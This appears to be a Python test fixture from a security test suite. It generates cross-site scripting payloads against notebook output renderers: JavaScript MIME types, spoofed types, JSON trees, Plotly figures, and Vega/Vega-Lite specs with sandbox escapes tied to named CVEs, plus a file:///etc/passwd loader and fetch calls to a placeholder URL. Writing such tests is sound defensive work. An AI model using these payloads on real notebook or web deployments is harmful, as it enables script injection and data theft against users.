"""Types that carry programs or settings: JavaScript, JSON, plots, unknown ones."""

# Payloads are data: their lines are as long as they are, in pieces that belong together.
# ruff: noqa: E501

from __future__ import annotations

from typing import Any

from tests.attacks.xss.payloads import Payload, numbered

IMG = "<img src=x onerror=%JS%>"
BLOCK = '<a href="javascript:%JS%">a link</a><img src=x onerror=%JS%>'
PLOTLY = "application/vnd.plotly.v1+json"
VEGA = "application/vnd.vega.v5+json"
VEGA_LITE = "application/vnd.vegalite.v5+json"

JAVASCRIPT: tuple[tuple[str, str], ...] = (
    ("application/javascript", "%JS%"),
    ("text/javascript", "%JS%"),
    ("application/x-javascript", "%JS%"),
    ("application/ecmascript", "%JS%"),
    ("text/ecmascript", "%JS%"),
    ("module/javascript", "%JS%"),
    ("application/vnd.jupyter.es6-rich-output", "%JS%"),
    ("application/javascript", "element.append('x');top.%JS%;fetch('%URL%')"),
)

# What some renderer somewhere runs, or what a wrong guess of a type would run.
UNKNOWN: tuple[tuple[str, Any], ...] = (
    ("application/vnd.jupyter.error", {"name": IMG, "message": IMG, "stack": IMG}),
    ("application/vnd.jupyter.stdout", IMG),
    ("application/vnd.jupyter.stderr", IMG),
    ("application/vnd.bokehjs_exec.v0+json", ""),
    ("application/vnd.bokehjs_load.v0+json", "%JS%"),
    ("application/vnd.holoviews_exec.v0+json", "%JS%"),
    ("application/vnd.holoviews_load.v0+json", "%JS%"),
    (
        "application/vnd.dataresource+json",
        {"data": [{"a": IMG}], "schema": {"fields": []}},
    ),
    ("application/geo+json", {"type": "Feature", "properties": {"popup": IMG}}),
    (
        "application/pdf",
        "%B64{%PDF-1.4 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>}%",
    ),
    (
        "application/xhtml+xml",
        "<html xmlns='http://www.w3.org/1999/xhtml'><script>%JS%</script></html>",
    ),
    (
        "application/xml",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>%JS%</x:script>",
    ),
    ("text/xml", "<?xml-stylesheet href='javascript:%JS%'?><x/>"),
    (
        "text/vnd.mermaid",
        'graph TD\n A["<img src=x onerror=%JS%>"]\n click A "javascript:%JS%"',
    ),
    ("text/plain", IMG),
    ("text/x-script", "<script>%JS%</script>"),
    ("text/csv", f"a,b\n{IMG},1"),
    ("image/png", '" onerror=%JS% x="'),
    ("image/png", "%B64{<svg xmlns='http://www.w3.org/2000/svg' onload='%JS%'/>}%"),
    ("image/jpeg", '" onload="%JS%'),
    ("image/gif", "javascript:%JS%"),
    ("image/bmp", '" onerror="%JS%'),
    ("image/svg", "<svg onload='%JS%'/>"),
    ('text/html" onload="%JS%', "<script>%JS%</script>"),
    ("TEXT/HTML", "<script>%JS%</script>"),
    ("text/html;charset=utf-8", "<script>%JS%</script>"),
    ("text/html ", "<script>%JS%</script>"),
    ("<img src=x onerror=%JS%>", IMG),
    ("application/vnd.nbinterview+json", {"html": IMG}),
    ("application/vnd.jupyterlab-commands+json", {"command": "notebook:run-all-cells"}),
    ("__proto__", {"text/html": "<script>%JS%</script>"}),
)

JSON: tuple[tuple[str, Any], ...] = (
    ("json value", {"a": IMG, "b": [IMG, BLOCK]}),
    ("json key", {IMG: 1, "<script>%JS%</script>": {IMG: 2}}),
    ("json link", {"href": "javascript:%JS%", "url": "%URL%"}),
    ("json prototype", {"__proto__": {"dangerouslySetInnerHTML": {"__html": IMG}}}),
    (
        "json as a react element",
        {
            "type": "div",
            "key": None,
            "ref": None,
            "props": {"dangerouslySetInnerHTML": {"__html": IMG}},
            "$$typeof": "Symbol(react.element)",
        },
    ),
    ("json text, not an object", IMG),
)

_TRACE = {"type": "scatter", "x": [1, 2], "y": [2, 1], "mode": "markers+text"}


def _plotly(
    mechanism: str, layout: Any = None, config: Any = None, /, **trace: Any
) -> Any:
    figure: dict[str, Any] = {
        "data": [{**_TRACE, **trace}],
        "layout": {"height": 200, **(layout or {})},
    }
    if config:
        figure["config"] = config
    return mechanism, {"data": {PLOTLY: figure, "text/plain": "Figure"}}


PLOTLY_FIGURES = (
    _plotly("plotly title link", {"title": {"text": BLOCK}}),
    _plotly(
        "plotly annotation link", {"annotations": [{"text": BLOCK, "x": 1, "y": 1}]}
    ),
    _plotly("plotly hover text", hovertext=[BLOCK, IMG], hovertemplate=BLOCK),
    _plotly("plotly point text", text=[BLOCK, IMG]),
    _plotly(
        "plotly axis title",
        {"xaxis": {"title": {"text": BLOCK}, "ticktext": [IMG], "tickvals": [1]}},
    ),
    _plotly("plotly legend name", {"showlegend": True}, name=BLOCK),
    _plotly(
        "plotly layout image",
        {"images": [{"source": "%URL%", "x": 0, "y": 1, "sizex": 1, "sizey": 1}]},
    ),
    _plotly(
        "plotly layout image svg",
        {
            "images": [
                {
                    "source": "data:image/svg+xml,<svg "
                    "xmlns='http://www.w3.org/2000/svg' onload='%JS%'/>",
                    "sizex": 1,
                    "sizey": 1,
                }
            ]
        },
    ),
    _plotly(
        "plotly link text",
        None,
        {"showLink": True, "linkText": BLOCK, "plotlyServerURL": "javascript:%JS%//"},
    ),
    _plotly("plotly editable", None, {"editable": True, "responsive": True}, name=IMG),
    _plotly(
        "plotly style attribute",
        {
            "title": {
                "text": '<span style="background:url(%URL%)" onclick="%JS%">x</span>'
            }
        },
    ),
    _plotly(
        "plotly updatemenu",
        {
            "updatemenus": [
                {
                    "buttons": [
                        {
                            "label": BLOCK,
                            "method": "relayout",
                            "args": ["title.text", BLOCK],
                        }
                    ]
                }
            ]
        },
    ),
    _plotly(
        "plotly transform code",
        transforms=[
            {"type": "filter", "operation": "constructor.constructor('%JS%')()"}
        ],
    ),
    _plotly(
        "plotly map elsewhere",
        {"mapbox": {"style": "%URL%", "accesstoken": "x"}},
        type="scattermapbox",
        lat=[1],
        lon=[1],
    ),
    _plotly(
        "plotly topojson elsewhere",
        None,
        {"topojsonURL": "%URL%/"},
        type="scattergeo",
        lat=[1, 2],
        lon=[1, 2],
    ),
    _plotly(
        "plotly table cell",
        type="table",
        header={"values": [BLOCK]},
        cells={"values": [[BLOCK, IMG]]},
    ),
    _plotly("plotly mathjax", {"title": {"text": r"$\href{javascript:%JS%}{x}$"}}),
    _plotly(
        "plotly mode bar",
        None,
        {
            "modeBarButtonsToAdd": [
                {
                    "name": IMG,
                    "title": IMG,
                    "icon": {"svg": "<svg onload='%JS%'/>"},
                    "click": "%JS%",
                }
            ],
            "displayModeBar": True,
        },
    ),
)


def _vega(name: str, /, **parts: Any) -> Any:
    spec = {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "width": 100,
        "height": 60,
        **parts,
    }
    return name, {"data": {VEGA: spec, "text/plain": "Vega"}}


def _lite(name: str, metadata: Any = None, /, **parts: Any) -> Any:
    spec = {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
        "data": {"values": [{"a": 1, "b": 2, "u": "javascript:%JS%"}]},
        "mark": {"type": "bar", "tooltip": True, "cursor": "pointer"},
        "encoding": {
            "x": {"field": "a", "type": "quantitative"},
            "y": {"field": "b", "type": "quantitative"},
        },
        **parts,
    }
    found: dict[str, Any] = {"data": {VEGA_LITE: spec, "text/plain": "Chart"}}
    if metadata:
        found["metadata"] = {VEGA_LITE: metadata}
    return name, found


def _mark(**update: Any) -> list[Any]:
    whole = {
        "x": {"value": 0},
        "y": {"value": 0},
        "width": {"value": 100},
        "height": {"value": 60},
        **update,
    }
    return [{"type": "rect", "encode": {"update": whole}}]


ESCAPES = (
    "constructor.constructor('%JS%')()",
    "replace('x', /x/, event.view.eval('%JS%'))",
    "event.view.%JS%",
    "event.dataflow.constructor.constructor('%JS%')()",
    "datum['constructor']['constructor']('%JS%')()",
    "{toString: event.view.setTimeout, valueOf: 0} + ''",
    "warn('x', data) || modify.constructor('%JS%')()",
    "isValid(setdata.constructor('%JS%')())",
    # CVE-2025-59840: an object whose toString is a function in reach.
    "toString({toString: event.view.VEGA_DEBUG.VEGA_CANVAS.constructor('%JS%')})",
    # CVE-2025-25304 and -26619: the scale's and vlSelectionTuples' way to a function.
    "vlSelectionTuples([{datum:<'0'>}], {fields:[{getter:[].at.constructor('%JS%')}]})",
    "scale({context:{scales:{x:{value:{constructor:[].at.constructor}}}}}, 'x', '%JS%')",
)

VEGA_CHARTS = (
    *(
        _vega(
            f"vega expression {n}",
            signals=[
                {
                    "name": "s",
                    "init": text,
                    "on": [{"events": "mousemove,click", "update": text}],
                }
            ],
            marks=_mark(tooltip={"signal": text}),
        )
        for n, text in enumerate(ESCAPES)
    ),
    _vega(
        "vega mark href",
        marks=_mark(href={"value": "javascript:%JS%"}, cursor={"value": "pointer"}),
    ),
    _vega(
        "vega mark href data:",
        marks=_mark(href={"value": "data:text/html,<script>%JS%</script>"}),
    ),
    _vega(
        "vega tooltip html", marks=_mark(tooltip={"value": IMG}, fill={"value": "red"})
    ),
    _vega("vega data loader", data=[{"name": "d", "url": "%URL%"}]),
    _vega("vega data loader file:", data=[{"name": "d", "url": "file:///etc/passwd"}]),
    _vega(
        "vega image mark",
        marks=[
            {
                "type": "image",
                "encode": {
                    "enter": {
                        "url": {"value": "%URL%"},
                        "width": {"value": 9},
                        "height": {"value": 9},
                    }
                },
            }
        ],
    ),
    _vega(
        "vega bind element",
        signals=[
            {
                "name": "s",
                "value": 1,
                "bind": {
                    "input": "text",
                    "name": IMG,
                    "element": "body",
                    "placeholder": IMG,
                },
            }
        ],
    ),
    _vega("vega schema elsewhere", **{"$schema": "%URL%/vega/v5.json"}),
    _lite(
        "vega-lite href channel", encoding={"href": {"field": "u", "type": "nominal"}}
    ),
    _lite("vega-lite title", title=IMG),
    _lite("vega-lite loader", data={"url": "%URL%"}),
    _lite(
        "vega-lite calculate",
        transform=[{"calculate": "constructor.constructor('%JS%')()", "as": "c"}],
    ),
    _lite(
        "vega-lite usermeta",
        usermeta={
            "embedOptions": {
                "actions": True,
                "loader": {"baseURL": "%URL%/"},
                "editorUrl": "javascript:%JS%",
                "sourceHeader": IMG,
                "sourceFooter": "<script>%JS%</script>",
                "ast": False,
            }
        },
    ),
    _lite(
        "vega-lite embed options",
        {
            "embed_options": {
                "actions": True,
                "editorUrl": "javascript:%JS%",
                "sourceHeader": IMG,
                "patch": "%URL%",
                "config": "%URL%",
                "defaultStyle": IMG,
            }
        },
    ),
    _lite(
        "vega-lite param bind",
        params=[
            {
                "name": "p",
                "bind": {
                    "input": "select",
                    "options": [1],
                    "labels": [IMG],
                    "name": IMG,
                },
            }
        ],
    ),
)


def payloads() -> list[Payload]:
    """Return them as outputs of runs and as written by a page."""
    scripts = [(f"type {mime}", {"data": {mime: text}}) for mime, text in JAVASCRIPT]
    others = [(f"type {mime}", {"data": {mime: data}}) for mime, data in UNKNOWN]
    trees = [
        (
            name,
            {
                "data": {"application/json": data},
                "metadata": {"application/json": {"expanded": True}},
            },
        )
        for name, data in JSON
    ]
    return [
        *numbered("js-run", "kernel", "application/javascript", scripts),
        *numbered("js-write", "document", "application/javascript", scripts),
        *numbered("type-run", "kernel", "unknown", others),
        *numbered("type-write", "document", "unknown", others),
        *numbered("json-run", "kernel", "application/json", trees),
        *numbered("plotly-run", "kernel", PLOTLY, PLOTLY_FIGURES),
        *numbered("vega-run", "kernel", VEGA, VEGA_CHARTS),
        *numbered("vega-write", "document", VEGA, VEGA_CHARTS[:6]),
    ]
